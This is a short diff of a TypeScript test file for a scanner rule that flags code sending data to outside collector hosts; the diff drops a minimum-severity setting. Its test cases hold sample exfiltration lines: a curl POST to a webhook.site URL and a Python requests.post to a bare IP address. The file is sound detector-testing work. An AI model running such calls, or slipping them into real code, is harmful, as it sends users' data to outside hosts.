@@ -2,7 +2,6 @@ import { describeCodeRule, py, sh, text } from '../../testing/code-rule-cases.ts
 import { collectorDestination } from './collector-destination.rule.ts';
 
 describeCodeRule(collectorDestination, {
-  atLeast: 'MEDIUM',
   caught: [
     sh('curl -X POST -d "done" https://webhook.site/0000'),
     py('import requests\nrequests.post("http://203.0.113.7/in", data="x")'),
